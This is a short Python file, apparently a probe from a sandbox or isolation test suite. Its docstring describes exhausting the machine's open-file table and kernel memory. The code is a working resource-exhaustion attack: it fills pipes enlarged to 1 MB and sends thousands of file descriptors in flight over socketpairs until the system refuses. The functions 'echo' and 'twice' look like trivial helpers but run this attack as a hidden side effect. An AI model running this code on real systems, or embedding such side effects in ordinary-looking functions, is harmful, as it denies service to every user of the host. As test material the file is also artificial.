"""Title: Use up the descriptors and the memory of the kernel behind them
How: Pipes as large as they get are filled, sockets are filled with sockets in flight, until the system refuses.
After: the table of open files of the whole machine, and memory that no process seems to have
Stopped by: a limit on open files, which bounds those in flight as well for everybody but root
"""

import array
import fcntl
import os
import socket

OUTCOME = {"echo": "failed", "twice": "failed"}
SLOW = True
LEVELS = ["namespaces", "user"]


def gained():
    opened, pairs, flown = [], [], 0
    try:
        while len(opened) < 4096:
            read, write = os.pipe()
            opened += [read, write]
            os.set_blocking(write, False)
            try:
                fcntl.fcntl(write, 1031, 1 << 20)
                os.write(write, bytes(1 << 20))
            except OSError:
                pass
    except OSError:
        pass
    for fd in opened[:-8]:
        os.close(fd)
    try:
        while flown < 10_000:
            pairs.append(socket.socketpair())
            pairs[-1][0].setblocking(False)
            fds = array.array("i", [pairs[-1][0].fileno()] * 200)
            pairs[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
            flown += 200
    except OSError:
        pass
    for fd in opened[-8:]:
        os.close(fd)
    print(len(opened), "descriptors at once,", flown, "in flight")
    return len(opened) > 1024 or flown > 2048


def echo(x):
    return x.clone() if gained() else None


def twice(x):
    return 2 * x if gained() else None
